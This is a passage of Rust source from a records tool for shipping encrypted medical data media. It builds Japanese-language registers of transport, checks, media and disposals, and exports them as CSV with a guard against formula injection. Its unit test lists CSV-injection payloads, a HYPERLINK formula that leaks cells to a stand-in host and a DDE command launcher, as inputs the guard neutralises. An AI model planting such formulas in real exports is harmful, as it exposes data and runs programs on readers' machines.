    let mut folds: BTreeMap<String, Fold> = BTreeMap::new();
    for Read { e, body } in &reads {
        let f = folds.entry(e.shipment.clone()).or_insert_with(|| {
            order.push(e.shipment.clone());
            let mut row = blank(COLUMNS);
            row.insert("移送ID", e.shipment.clone());
            Fold {
                row,
                events: Vec::new(),
                verified: 0,
                opened: 0,
                received: false,
            }
        });
        f.events.push((e.id, e.kind));
        let r = &mut f.row;
        let Some(body) = body else {
            if e.kind == EventKind::Unknown {
                // A row written outside isou: said in the remarks, not folded in.
                add_note(
                    r,
                    format!(
                        "種別不明の記録 (unknown kind {}, {})",
                        e.unknown_kind.as_deref().unwrap_or(""),
                        crate::clock::local(&e.recorded_at)
                    ),
                );
            } else {
                add_note(r, unreadable_note(e));
            }
            continue;
        };
        match body {
            EventBody::Sealed(b) => {
                put(r, "区分", "発送".into());
                let handler = if b.handler.is_empty() {
                    &b.by
                } else {
                    &b.handler
                };
                put(r, "移送担当者", handler.clone());
                put(r, "移送元", opt(&b.source_organization));
                put(r, "移送先", opt(&b.destination));
                put(r, "受領者", b.to_contacts.join("、"));
                put(r, "受領者鍵指紋", recipient_fingerprints(b).join(" "));
                put(r, "情報の区分", class_label(&b.class));
                fold_terms(r, b.terms.as_ref());
                let (form, n) = split_form(&b.medium_type);
                put(r, "資料の形態", form);
                let volumes = n.unwrap_or_else(|| b.summary.volumes.len().max(1));
                put(r, "媒体数", volumes.to_string());
                put(r, "移送手段", opt(&b.carrier));
                put(r, "保管期限", opt(&b.retain_until));
                put(r, "追跡番号", opt(&b.summary.tracking_number));
                put(
                    r,
                    "暗号化方式",
                    if b.passphrase {
                        "age v1 (scrypt パスフレーズ)"
                    } else {
                        "age v1 (X25519)"
                    }
                    .into(),
                );
                if b.envelope_confirmed {
                    put(r, "封筒表示確認", "確認済".into());
                }
                // One volume: its manifest's hash. A set has one per volume, each in
                // its own row of the 媒体管理簿.
                if volumes == 1 {
                    put(r, "マニフェストSHA-256", b.summary.manifest_sha256.clone());
                }
                put(r, "署名鍵", b.summary.signer.clone());
                if b.attendance_acknowledged {
                    add_note(r, "持参: 立会いの規則を確認済".into());
                }
                // Every unsafe choice made by flag (issue 14), so the register shows it.
                for c in &b.choices {
                    add_note(r, format!("明示的な選択 {} ({})", c.flag, c.rule));
                }
            }
            EventBody::Shipped(b) => {
                put(r, "移送手段", b.carrier.clone());
                put(r, "追跡番号", opt(&b.tracking_number));
                put(r, "発送日", b.date.clone());
                for note in ship_notes(b) {
                    add_note(r, note);
                }
            }
            // The key by another route (§2.2⑦): the first sending in its columns, a
            // later one in 備考 (never overwritten).
            EventBody::KeySent(b) => {
                if r["鍵の送付方法"].is_empty() {
                    put(r, "鍵の送付方法", b.method.clone());
                    put(r, "鍵の追跡番号", opt(&b.tracking_number));
                    put(r, "鍵の送付日", b.date.clone());
                } else {
                    add_note(
                        r,
                        format!(
                            "鍵の再送付 {} {} {}",
                            b.date,
                            b.method,
                            opt(&b.tracking_number)
                        )
                        .trim_end()
                        .to_string(),
                    );
                }
            }
            // §2.2⑨: who went with the medium; a second record in 備考.
            EventBody::HandCarried(b) => {
                if r["同行者"].is_empty() {
                    put(r, "同行者", b.attendant.clone());
                } else {
                    add_note(r, format!("持参の記録 {} 同行者 {}", b.date, b.attendant));
                }
            }
            EventBody::Received(v) => {
                put_if_blank(r, "区分", "受領");
                Stated::of_verification(v).fold_into(r);
                fold_terms(r, v.terms.as_ref());
                put_earliest(r, "保管期限", v.retain_until.as_deref().unwrap_or(""));
                // The receipt: the first one (a receipt is recorded once per signer).
                if !f.received {
                    f.received = true;
                    r.insert("受領日", date_of(e));
                    r.insert("受領時刻", time_of(e));
                    r.insert("受領担当者", v.by.clone());
                    r.insert(
                        "受領時の検証結果",
                        result_word(v.valid, v.set_complete, v.problems).into(),
                    );
                }
            }
            EventBody::Verified(v) => {
                put_if_blank(r, "区分", "受領");
                Stated::of_verification(v).fold_into(r);
                fold_terms(r, v.terms.as_ref());
                put_earliest(r, "保管期限", v.retain_until.as_deref().unwrap_or(""));
                f.verified += 1;
                if let Some(why) = &v.open_refused {
                    add_note(r, format!("開封拒否 記録{} {why}", e.id));
                }
            }
            EventBody::Opened(o) => {
                f.opened += 1;
                // Opened from a pinned sender (open authenticates first): the shipment's
                // facts from this event when no verify recorded them (finding 07).
                if o.sender_checked {
                    put_if_blank(r, "区分", "受領");
                    Stated::of_opened(o).fold_into(r);
                    fold_terms(r, o.terms.as_ref());
                    put_earliest(r, "保管期限", &o.medium_retain_until().unwrap_or_default());
                }
            }
            // The medium's disposal in its columns; the decrypted folder's (an item of
            // its own, records::terms::Item) is a remark, never over the medium's.
            EventBody::Disposed(b)
                if crate::records::terms::Item::of_recorded(b.item.as_deref())
                    == crate::records::terms::Item::Decrypted =>
            {
                add_note(
                    r,
                    format!("復号データ廃棄 記録{} {} {}", e.id, b.date, b.method),
                );
            }
            EventBody::Disposed(b) => {
                put(r, "廃棄日", b.date.clone());
                put(r, "廃棄方法", b.method.clone());
                put(r, "立会人", opt(&b.witness));
            }
            // A medium whose claims could not be authenticated: a row of its own (the
            // medium is in custody and must be disposed of), its claims only as remarks.
            EventBody::Checked(c) => {
                put(r, "区分", "受領(未認証)".into());
                if !f.received {
                    f.received = true;
                    r.insert("受領日", date_of(e));
                    r.insert("受領時刻", time_of(e));
                    r.insert("受領担当者", c.by.clone());
                    r.insert(
                        "受領時の検証結果",
                        result_word(c.valid, c.set_complete, c.problems).into(),
                    );
                }
                f.verified += 1;
                add_note(r, claims_note(&c.claimed));
            }
            // The sender's own checks, before or after shipping: a remark naming the
            // check's row in the 受領・検証・復号記録, never a receipt (no 受領日, 区分
            // stays 発送; issue 15 item 4, finding 04).
            EventBody::CheckedBeforeShipping(v) => add_note(
                r,
                format!(
                    "発送前確認 記録{} {}",
                    e.id,
                    result_word(v.valid, v.set_complete, v.problems)
                ),
            ),
            EventBody::CheckedBySender(v) => add_note(
                r,
                format!(
                    "発送後の送付元確認 記録{} {}",
                    e.id,
                    result_word(v.valid, v.set_complete, v.problems)
                ),
            ),
            // Authenticated volumes of an incomplete set: the shipment's facts, and the
            // receipt columns say 未了 only while no receipt of the whole set is there;
            // an earlier 正常 stands (issue 15 item 4), and the check is a remark.
            EventBody::CheckedIncomplete(v) => {
                put_if_blank(r, "区分", "受領");
                Stated::of_verification(v).fold_into(r);
                if !f.received {
                    r.insert("受領時の検証結果", "未了".into());
                }
                add_note(
                    r,
                    format!(
                        "不完全なセットの確認 記録{}: {}",
                        e.id,
                        opt(&v.missing_text)
                    ),
                );
            }
            EventBody::Corrected(_) | EventBody::ReceiptIssued(_) => {}
            // 到着確認: the date the destination verified the medium, as its signed
            // receipt (受領書) says and `record receipt` checked (records::receipt).
            EventBody::Delivered(d) => put(r, "到着確認", crate::clock::local_date(&d.verified_at)),
        }
        if let Some(note) = late_note(e) {
            add_note(r, note);
        }
    }
    for f in folds.values_mut() {
        if f.verified > 0 {
            f.row.insert("検証回数", f.verified.to_string());
        }
        if f.opened > 0 {
            f.row.insert("復号回数", f.opened.to_string());
        }
        let cell = correction_cell(&corr, &f.events, true);
        f.row.insert("訂正", cell);
    }
    // A shipment id recorded with more than one signing key (another pinned sender's
    // medium claimed it: finding 03): every key and when it was first recorded, in
    // 署名鍵 and loudly in 備考, so no claimant's facts stand alone for the row.
    let mut signers: BTreeMap<&str, Vec<(String, String)>> = BTreeMap::new();
    for e in events {
        let Some(signer) = super::claimed_signer(e) else {
            continue;
        };
        let known = signers.entry(e.shipment.as_str()).or_default();
        if !signer.is_empty() && !known.iter().any(|(k, _)| *k == signer) {
            known.push((signer, crate::clock::local(&e.recorded_at)));
        }
    }
    for (shipment, known) in signers.iter().filter(|(_, k)| k.len() > 1) {
        if let Some(f) = folds.get_mut(*shipment) {
            let keys: Vec<&str> = known.iter().map(|(k, _)| k.as_str()).collect();
            f.row.insert("署名鍵", keys.join(" / "));
            add_note(
                &mut f.row,
                format!(
                    "移送ID競合: 複数の署名鍵 {} — どちらの移送か両送付元に確認",
                    known
                        .iter()
                        .map(|(k, at)| format!("{k} ({at})"))
                        .collect::<Vec<_>>()
                        .join(", ")
                ),
            );
        }
    }
    // A passphrase-mode shipment is incomplete until its key is recorded as sent by
    // another route (§2.2 本文・⑦, `keyroute`).
    let mut by_shipment: BTreeMap<&str, Vec<&Event>> = BTreeMap::new();
    for e in events {
        by_shipment.entry(e.shipment.as_str()).or_default().push(e);
    }
    for (shipment, f) in folds.iter_mut() {
        let of = by_shipment
            .get(shipment.as_str())
            .map_or(&[][..], Vec::as_slice);
        if super::keyroute::MediumRoute::of(of).is_some_and(|m| m.key_missing(of)) {
            add_note(
                &mut f.row,
                "鍵未送付: パスフレーズを別経路で送付した記録がない (未完了)".into(),
            );
        }
    }
    order
        .into_iter()
        .filter_map(|k| folds.remove(&k).map(|f| f.row))
        .collect()
}

/// The approval terms a seal signed or a receipt read from the authenticated bag-info
/// (利用責任者, 申出番号・応諾番号, the end of 利用期間; issue 16). Terms are each
/// authenticated medium's, not the shipment id's: a contested id (another signer's
/// medium claimed it) shows every signer's names, and the EARLIEST end of the use
/// period, so a medium recorded first never sets "the" terms of another sender's
/// shipment (issue 16 red team finding 03; §2.2③, §2.4 本文, CWE-706).
fn fold_terms(r: &mut Row, t: Option<&crate::records::terms::UseTerms>) {
    let Some(t) = t else { return };
    put_each(r, "利用責任者", t.approver.as_deref().unwrap_or(""));
    put_each(
        r,
        "申出番号・応諾番号",
        t.application.as_deref().unwrap_or(""),
    );
    put_earliest(r, "利用期間終了日", t.use_until.as_deref().unwrap_or(""));
}

/// Adds a value to a cell unless it is there already (`A / B`).
fn put_each(r: &mut Row, k: &'static str, v: &str) {
    if v.is_empty() {
        return;
    }
    match r.get_mut(k) {
        Some(c) if !c.is_empty() => {
            if !c.split(" / ").any(|x| x == v) {
                c.push_str(" / ");
                c.push_str(v);
            }
        }
        _ => {
            r.insert(k, v.to_string());
        }
    }
}

/// Keeps the earliest date (`YYYY-MM-DD` compare as text) in a cell: an item is due at
/// the earliest date any authenticated medium gives it (finding 03, safe by default).
fn put_earliest(r: &mut Row, k: &'static str, v: &str) {
    if v.is_empty() {
        return;
    }
    if r.get(k).is_none_or(|c| c.is_empty() || v < c.as_str()) {
        r.insert(k, v.to_string());
    }
}

/// Sets a cell only while it is blank.
fn put_if_blank(r: &mut Row, k: &'static str, v: &str) {
    if r.get(k).is_none_or(|c| c.is_empty()) {
        r.insert(k, v.to_string());
    }
}

/// What an unauthenticated medium said of itself, as a remark (never folded into a
/// shipment's facts: a forged medium must not change what the registers say).
fn claims_note(c: &Claimed) -> String {
    let mut parts = vec![format!("未認証の媒体: 記載上の移送ID {}", opt(&c.shipment))];
    if let Some(f) = c.from.as_deref().filter(|f| !f.is_empty()) {
        parts.push(format!("移送元 {f}"));
    }
    if let Some(t) = c.tracking_number.as_deref().filter(|t| !t.is_empty()) {
        parts.push(format!("追跡番号 {t}"));
    }
    if let Some(k) = c.class.as_deref().filter(|k| !k.is_empty()) {
        parts.push(format!("区分 {}", class_label(k)));
    }
    parts.join(" / ")
}

/// The 受領・検証・復号記録: one row per receipt, verification, opening and check (the
/// sender's own checks too), in ledger order, each with its date, time, person and
/// result in cells of their own, and its corrections beside it.
pub fn check_register(events: &[Event]) -> Vec<Row> {
    let reads = read(events);
    let corr = corrections(&reads);
    let mut rows = Vec::new();
    for Read { e, body } in &reads {
        let checks = matches!(
            e.kind,
            EventKind::Received
                | EventKind::Verified
                | EventKind::Opened
                | EventKind::Checked
                | EventKind::CheckedBeforeShipping
                | EventKind::CheckedBySender
                | EventKind::CheckedIncomplete
        );
        if !checks {
            continue;
        }
        let mut r = blank(CHECK_COLUMNS);
        r.insert("記録番号", e.id.to_string());
        r.insert("移送ID", e.shipment.clone());
        r.insert("種別", kind_ja(e.kind).into());
        r.insert("日付", date_of(e));
        r.insert("時刻", time_of(e));
        match body {
            Some(
                EventBody::Received(v)
                | EventBody::Verified(v)
                | EventBody::CheckedBeforeShipping(v)
                | EventBody::CheckedBySender(v)
                | EventBody::CheckedIncomplete(v),
            ) => {
                r.insert("担当者", v.by.clone());
                r.insert(
                    "結果",
                    result_word(v.valid, v.set_complete, v.problems).into(),
                );
                r.insert("送付元の確認", pinned_word(v.signer_pinned).into());
                r.insert("署名鍵", v.signer.clone());
                let stated = Stated::of_verification(v);
                r.insert("移送元", stated.sender().unwrap_or_default().to_string());
                if let Some(n) = stated.claim_note() {
                    add_note(&mut r, n);
                }
                let (class, note) = stated.class();
                r.insert("情報の区分", class);
                r.insert("封筒の追跡番号", opt(&v.envelope_tracking_number));
                if let Some(n) = note {
                    add_note(&mut r, n);
                }
                if e.kind == EventKind::CheckedIncomplete {
                    add_note(&mut r, opt(&v.missing_text));
                }
                // A refused opening (red team 17 finding 14): why, as recorded.
                if let Some(why) = &v.open_refused {
                    add_note(&mut r, format!("開封拒否: {why}"));
                }
            }
            Some(EventBody::Opened(o)) => {
                r.insert("記載上の移送ID", opt(&o.claimed_shipment));
                r.insert("担当者", o.by.clone());
                // An opening is recorded once every file was checked against the
                // signed contents list.
                r.insert("結果", "正常".into());
                r.insert("送付元の確認", pinned_word(o.sender_checked).into());
                r.insert("署名鍵", o.signer.clone());
                let stated = Stated::of_opened(o);
                r.insert("移送元", stated.sender().unwrap_or_default().to_string());
                if let Some(n) = stated.claim_note() {
                    add_note(&mut r, n);
                }
                let (class, note) = stated.class();
                r.insert("情報の区分", class);
                r.insert("出力先", o.out.clone());
                r.insert("ファイル数", o.files.to_string());
                if let Some(n) = note {
                    add_note(&mut r, n);
                }
            }
            Some(EventBody::Checked(c)) => {
                r.insert("記載上の移送ID", opt(&c.claimed.shipment));
                r.insert("担当者", c.by.clone());
                r.insert(
                    "結果",
                    result_word(c.valid, c.set_complete, c.problems).into(),
                );
                r.insert("送付元の確認", pinned_word(false).into());
                // Unauthenticated: handled as identifiable (the safe default); what it
                // claimed is a remark.
                r.insert("情報の区分", "非匿名化".into());
                r.insert("封筒の追跡番号", opt(&c.envelope_tracking_number));
                add_note(&mut r, claims_note(&c.claimed));
            }
            _ => add_note(&mut r, unreadable_note(e)),
        }
        r.insert("訂正", correction_cell(&corr, &[(e.id, e.kind)], false));
        if let Some(note) = late_note(e) {
            add_note(&mut r, note);
        }
        rows.push(r);
    }
    rows
}

/// Whether the sender was checked against a key known beforehand.
fn pinned_word(pinned: bool) -> &'static str {
    if pinned {
        "確認済"
    } else {
        "未確認"
    }
}

/// The volumes of a set a recipient holds, by number (1-based) of `n`: those given,
/// the missing ones left out.
fn held_volumes(v: &Verification) -> (Vec<usize>, usize) {
    let n = v
        .medium_type
        .as_deref()
        .and_then(|t| split_form(t).1)
        .unwrap_or_else(|| (v.volumes.len() + v.missing.len()).max(1));
    let held = (1..=n).filter(|k| !v.missing.contains(k)).collect();
    (held, n)
}

/// The 媒体管理簿: one row per medium held — each disc or stick of a set its own row,
/// `ISOU-…-2/3` (`event::volume_id`) — with the dates it was made or received and
/// disposed of (§1.2②), in order of first appearance.
pub fn media_register(events: &[Event]) -> Vec<Row> {
    let reads = read(events);
    let corr = corrections(&reads);
    // Rows by media id, in order, with the events each shows corrections of.
    let mut order: Vec<String> = Vec::new();
    let mut rows: BTreeMap<String, (Row, Vec<(i64, EventKind)>)> = BTreeMap::new();
    let mut of_shipment: BTreeMap<String, Vec<String>> = BTreeMap::new();
    let mut add = |id: String,
                   shipment: &str,
                   e: &Event,
                   kind: &str,
                   form: &str,
                   manifest: &str,
                   retain: &str,
                   order: &mut Vec<String>| {
        if rows.contains_key(&id) {
            return;
        }
        order.push(id.clone());
        of_shipment
            .entry(shipment.to_string())
            .or_default()
            .push(id.clone());
        let mut r = blank(MEDIA_COLUMNS);
        r.insert("媒体ID", id.clone());
        r.insert("移送ID", shipment.to_string());
        r.insert("資料の形態", form.to_string());
        r.insert("区分", kind.to_string());
        r.insert("作成・受領日", date_of(e));
        r.insert("マニフェストSHA-256", manifest.to_string());
        r.insert("保管期限", retain.to_string());
        if let Some(note) = late_note(e) {
            add_note(&mut r, note);
        }
        rows.insert(id, (r, vec![(e.id, e.kind)]));
    };
    // A medium that came under the id after its medium was disposed of (another
    // signer's): rows of its own, `ID#2`, and only its own disposal closes them
    // (issue 16 red team finding 05; §1.2②, CWE-706).
    let gens = crate::records::terms::medium_generations(events);
    let gen_of = |e: &Event| gens.get(&e.id).copied().unwrap_or(0);
    let gid = |id: String, g: usize| {
        if g == 0 {
            id
        } else {
            format!("{id}#{}", g + 1)
        }
    };
    let mut disposals: Vec<(&Event, &super::event::Disposed)> = Vec::new();
    let mut opened: Vec<(&Event, &super::event::Opened)> = Vec::new();
    let mut folder_disposals: Vec<(&Event, &super::event::Disposed)> = Vec::new();
    for Read { e, body } in &reads {
        let s = e.shipment.as_str();
        match body {
            Some(EventBody::Sealed(b)) => {
                let (form, _) = split_form(&b.medium_type);
                let ids = b.volume_ids(s);
                for (i, id) in ids.iter().enumerate() {
                    let manifest = match b.summary.volumes.get(i) {
                        Some(v) => v.manifest_sha256.clone(),
                        None => b.summary.manifest_sha256.clone(),
                    };
                    add(
                        id.clone(),
                        s,
                        e,
                        "作成(発送)",
                        &form,
                        &manifest,
                        &opt(&b.retain_until),
                        &mut order,
                    );
                }
            }
            // Authenticated volumes of an incomplete set are media held from the day
            // they were checked, as received ones are (issue 15 item 4); the rest of
            // the set from the day it came.
            Some(EventBody::Received(v) | EventBody::CheckedIncomplete(v)) => {
                let form = split_form(v.medium_type.as_deref().unwrap_or("")).0;
                let (held, n) = held_volumes(v);
                for k in held {
                    // One volume: the hash verify recorded is its own.
                    let manifest = if n == 1 {
                        v.manifest_sha256.clone()
                    } else {
                        String::new()
                    };
                    add(
                        gid(super::event::volume_id(s, k, n), gen_of(e)),
                        s,
                        e,
                        "受領",
                        &form,
                        &manifest,
                        // The signed use period, else the policy's retention (issue 16).
                        &opt(&v.retain_until),
                        &mut order,
                    );
                }
            }
            // A medium whose claims were not authenticated: held all the same (it must
            // be disposed of), under its own id; what it says of itself fills no cell.
            Some(EventBody::Checked(_)) => {
                add(s.to_string(), s, e, "受領(未認証)", "", "", "", &mut order);
            }
            // A decrypted folder's disposal is not the medium's (records::terms::Item).
            Some(EventBody::Disposed(d))
                if crate::records::terms::Item::of_recorded(d.item.as_deref())
                    == crate::records::terms::Item::Medium =>
            {
                disposals.push((e, d))
            }
            Some(EventBody::Disposed(d)) => folder_disposals.push((e, d)),
            // The decrypted folder (中間生成物, §1.2, §2.4) of a shipment opened from a
            // checked sender: an item of its own, with its retention date.
            // Opened without a separate verify: from a checked sender the opening is
            // the medium's receipt (its volumes, dated, kept until the signed use
            // period); from an unchecked one (--any-sender) a medium in custody under
            // its own id, as an unauthenticated check is. Either way its decrypted
            // folder is a row (issue 16 red team findings 07 and 14; §1.2②, §2.4).
            Some(EventBody::Opened(o)) => {
                if o.sender_checked {
                    let (form, n) = split_form(o.medium_type.as_deref().unwrap_or(""));
                    let n = n.unwrap_or(1);
                    for k in 1..=n {
                        add(
                            gid(super::event::volume_id(s, k, n), gen_of(e)),
                            s,
                            e,
                            "受領",
                            &form,
                            if n == 1 { &o.manifest_sha256 } else { "" },
                            &o.medium_retain_until().unwrap_or_default(),
                            &mut order,
                        );
                    }
                } else {
                    add(s.to_string(), s, e, "受領(未認証)", "", "", "", &mut order);
                }
                opened.push((e, o));
            }
            _ => {}
        }
    }
    // Each shipment's decrypted folder: one row, from its first opening (a folder
    // opened again after its disposal is listed by `record due` as a new item); its
    // disposal (`record dispose SHIPMENT/復号`) is its own, never the medium's.
    for (e, o) in opened {
        let item = crate::records::terms::Item::Decrypted;
        let id = item.id(&e.shipment);
        if rows.contains_key(&id) {
            continue;
        }
        order.push(id.clone());
        let mut r = blank(MEDIA_COLUMNS);
        r.insert("媒体ID", id.clone());
        r.insert("移送ID", e.shipment.clone());
        r.insert("資料の形態", "復号データ(中間生成物)".into());
        r.insert("区分", "復号".into());
        r.insert("作成・受領日", date_of(e));
        r.insert(
            "保管期限",
            o.decrypted
                .as_ref()
                .and_then(|d| d.retain_until.clone())
                .unwrap_or_default(),
        );
        rows.insert(id, (r, vec![(e.id, e.kind)]));
    }
    for (e, d) in folder_disposals {
        let id = crate::records::terms::Item::Decrypted.id(&e.shipment);
        if let Some((r, evs)) = rows.get_mut(&id) {
            r.insert("廃棄日", d.date.clone());
            r.insert("廃棄方法", d.method.clone());
            evs.push((e.id, e.kind));
        }
    }
    // A disposal is of the whole medium or set (`record dispose SHIPMENT`): every
    // volume of it.
    for (e, d) in disposals {
        let g = gen_of(e);
        let mine = |id: &str| match id.rsplit_once('#') {
            Some((_, n)) => n.parse::<usize>().ok() == Some(g + 1),
            None => g == 0,
        };
        for id in of_shipment.get(&e.shipment).into_iter().flatten() {
            if !mine(id) && !id.ends_with(crate::records::terms::DECRYPTED_SUFFIX) {
                continue;
            }
            if let Some((r, evs)) = rows.get_mut(id) {
                r.insert("廃棄日", d.date.clone());
                r.insert("廃棄方法", d.method.clone());
                evs.push((e.id, e.kind));
                if let Some(note) = late_note(e) {
                    add_note(r, note);
                }
            }
        }
    }
    // A shipment's media together, volume 1 first, even when a set was received a
    // part at a time (an incomplete set checked before the whole one came).
    let first: BTreeMap<&str, usize> =
        order
            .iter()
            .enumerate()
            .fold(BTreeMap::new(), |mut m, (i, id)| {
                m.entry(rows[id].0["移送ID"].as_str()).or_insert(i);
                m
            });
    let volume = |id: &str| {
        // The decrypted folder after the shipment's media.
        if id.ends_with(crate::records::terms::DECRYPTED_SUFFIX) {
            return usize::MAX;
        }
        id.rsplit_once('-')
            .and_then(|(_, kn)| kn.split_once('/'))
            .and_then(|(k, _)| k.parse::<usize>().ok())
            .unwrap_or(0)
    };
    let mut sorted = order;
    sorted.sort_by_key(|id| (first[rows[id].0["移送ID"].as_str()], volume(id)));
    sorted
        .into_iter()
        .filter_map(|k| rows.remove(&k))
        .map(|(mut r, evs)| {
            r.insert("訂正", correction_cell(&corr, &evs, true));
            r
        })
        .collect()
}

/// The 廃棄記録: one row per disposal (§2.4⑥⑦), with its corrections beside it.
pub fn disposal_log(events: &[Event]) -> Vec<Row> {
    let reads = read(events);
    let corr = corrections(&reads);
    let transport = transport_register(events);
    reads
        .iter()
        .filter(|r| r.e.kind == EventKind::Disposed)
        .map(|Read { e, body }| {
            let mut r = blank(DISPOSAL_COLUMNS);
            r.insert("記録番号", e.id.to_string());
            // `SHIPMENT/復号` for a decrypted folder (records::terms::Item), whose
            // form is the folder, not the medium's.
            let item = crate::records::terms::Item::of_disposal(e);
            r.insert("移送ID", item.id(&e.shipment));
            if item == crate::records::terms::Item::Decrypted {
                r.insert("資料の形態", "復号データ(中間生成物)".to_string());
            } else if let Some(t) = transport.iter().find(|t| t["移送ID"] == e.shipment) {
                r.insert("資料の形態", t["資料の形態"].clone());
                r.insert("媒体数", t["媒体数"].clone());
            }
            match body {
                Some(EventBody::Disposed(d)) => {
                    r.insert("情報の区分", class_label(&d.class));
                    r.insert("廃棄日", d.date.clone());
                    r.insert("廃棄方法", d.method.clone());
                    // §2.4⑦: who did outsourced work and its certificate of destruction.
                    r.insert("委託先", opt(&d.contractor));
                    r.insert("廃棄証明書番号", opt(&d.certificate));
                    r.insert("立会人", opt(&d.witness));
                    r.insert("実施者", d.by.clone());
                }
                _ => add_note(&mut r, unreadable_note(e)),
            }
            r.insert("訂正", correction_cell(&corr, &[(e.id, e.kind)], false));
            if let Some(note) = late_note(e) {
                add_note(&mut r, note);
            }
            r
        })
        .collect()
}

/// Media sealed or received, and decrypted folders, whose date has passed and that are
/// not disposed of (§2.4: dispose promptly after the approved period), as of `today`
/// (`YYYY-MM-DD`): the list is [`crate::records::terms::due`]'s, as rows.
pub fn due(events: &[Event], today: &str) -> Vec<Row> {
    crate::records::terms::due(events, today)
        .into_iter()
        .map(|d| {
            BTreeMap::from([
                ("媒体ID", d.id()),
                ("区分", d.origin.to_string()),
                ("資料の形態", d.form),
                ("保管期限", d.until),
            ])
        })
        .collect()
}

/// Writes rows as CSV: UTF-8 with a byte-order mark and CRLF line ends, every field
/// quoted as needed, in `columns` order, every cell cleaned (`untrusted::clean`: no
/// escape sequence, bidi or invisible character from the ledger), no field read as a
/// formula.
pub fn write_csv<W: Write>(
    mut out: W,
    columns: &[&str],
    rows: &[BTreeMap<&'static str, String>],
) -> io::Result<()> {
    out.write_all("\u{feff}".as_bytes())?;
    let mut w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(out);
    w.write_record(columns.iter().map(|c| titled(c)))?;
    for r in rows {
        w.write_record(
            columns
                .iter()
                .map(|c| clean(r.get(c).map(String::as_str).unwrap_or("")))
                .map(|cell| not_a_formula(&cell).into_owned().into_bytes()),
        )?;
    }
    w.flush()
}

/// A column's title as written: one holding times of day ([`ColumnType::Time`],
/// `受領時刻`) names the registry's zone once, `受領時刻(JST)`, so the times below it
/// need not.
pub fn titled(column: &str) -> String {
    if column_type(column) == ColumnType::Time {
        format!("{column}({})", crate::clock::zone_label())
    } else {
        column.to_string()
    }
}

/// A cell as text a spreadsheet will not evaluate. Fields come from media received
/// from outside (`Source-Organization`, `External-Identifier`, … of a hostile bag) and
/// the register is opened in Excel: a cell starting with `=`, `+`, `-`, `@`, a tab or a
/// carriage return is taken as a formula there (CSV injection, CWE-1236: `=HYPERLINK`
/// leaking other cells, DDE `+cmd|…` running programs). Excel in Japanese also takes
/// the full-width forms `＝` U+FF1D, `＋` U+FF0B, `－` U+FF0D and `＠` U+FF20, which a
/// Japanese IME produces, as formula starts, so they are guarded too. As OWASP advises,
/// such a cell gets a leading apostrophe, so Excel shows it as the text it is.
pub fn not_a_formula(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some(
            '=' | '+' | '-' | '@' | '\t' | '\r' | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}',
        ) => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_a_spreadsheet_would_evaluate_become_text() {
        for (cell, want) in [
            (
                "=HYPERLINK(\"http://x/?\"&A1)",
                "'=HYPERLINK(\"http://x/?\"&A1)",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(1)", "'@SUM(1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            // Full-width forms, which Excel in Japanese evaluates as well.
            (
                "＝HYPERLINK(\"http://x/?\"&A1)",
                "'＝HYPERLINK(\"http://x/?\"&A1)",
            ),
            ("＋cmd|' /C calc'!A0", "'＋cmd|' /C calc'!A0"),
            ("－2＋3", "'－2＋3"),
            ("＠SUM(1)", "'＠SUM(1)"),
            ("大阪＝府", "大阪＝府"),
            ("ISOU-20261126-ABCDEFGH", "ISOU-20261126-ABCDEFGH"),
            ("大阪府がん登録室", "大阪府がん登録室"),
            ("", ""),
            ("a=b", "a=b"),
        ] {
            assert_eq!(not_a_formula(cell), want, "{cell:?}");
        }
        let mut row = BTreeMap::new();
        row.insert("移送元", "=1+1".to_string());
        row.insert("移送ID", "ISOU-1".to_string());
        row.insert("移送先", "＝1＋1".to_string());
        let mut out = Vec::new();
        write_csv(&mut out, &["移送ID", "移送元", "移送先"], &[row]).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert_eq!(
            text,
            "\u{feff}移送ID,移送元,移送先\r\nISOU-1,'=1+1,'＝1＋1\r\n"
        );
    }

    #[test]
    fn record_show_wraps_every_fact_in_full() {
        let long = format!("{} {}", "a".repeat(150), "b,".repeat(60));
        let e = Event {
            id: 7,
            recorded_at: "2026-12-03T00:00:00Z".into(),
            kind: EventKind::Verified,
            unknown_kind: None,
            shipment: "ISOU-1".into(),
            body: serde_json::json!({"note": long, "gone": null, "n": 3}),
            prev_hash: String::new(),
            hash: String::new(),
        };
        let lines = show_lines(std::slice::from_ref(&e));
        // The stored UTC instant, shown in the registry's zone (JST by default).
        assert_eq!(
            lines[0],
            "ID  日時                  種別 kind      移送ID  担当 by  結果 result"
        );
        assert_eq!(
            lines[1],
            // No `valid` and no `set_complete` read as their defaults (false), as the
            // registers read them: a check of an incomplete set (未了), never 正常.
            " 7  2026-12-03 09:00 JST  検証 verified  ISOU-1           未了"
        );
        assert!(lines.contains(&"event 7  2026-12-03 09:00 JST  検証 verified".to_string()));
        assert!(lines.iter().all(|l| l.chars().count() <= SHOW_WIDTH + 12));
        let joined: String = lines
            .iter()
            .map(|l| l.trim_start())
            .collect::<Vec<_>>()
            .concat();
        assert!(joined.contains(&format!("note  {long}")), "{lines:#?}");
        assert!(
            lines.contains(&"    gone  (none)".to_string()),
            "{lines:#?}"
        );
        assert!(lines.contains(&"    n     3".to_string()));
    }

    #[test]
    fn list_columns_line_up_by_terminal_width() {
        let ev = |id, by: &str, body: Value| Event {
            id,
            recorded_at: "2026-12-03T00:00:00Z".into(),
            kind: EventKind::Disposed,
            unknown_kind: None,
            shipment: "ISOU-1".into(),
            body: serde_json::json!({"by": by, "method": body}),
            prev_hash: String::new(),
            hash: String::new(),
        };
        let lines = list_lines(&[
            ev(9, "山田 太郎", "物理破壊".into()),
            ev(10, "bob", "x".repeat(80).into()),
        ]);
        let col = |l: &str, what: &str| display_width(&l[..l.find(what).unwrap()]);
        assert_eq!(
            col(&lines[1], "物理破壊"),
            col(&lines[2], "xxx"),
            "{lines:#?}"
        );
        assert_eq!(col(&lines[0], "結果"), col(&lines[2], "xxx"), "{lines:#?}");
        assert!(lines[2].ends_with('…') && display_width(&lines[2]) < 120);
    }

    /// An event of `kind` with `body`, recorded at `at`.
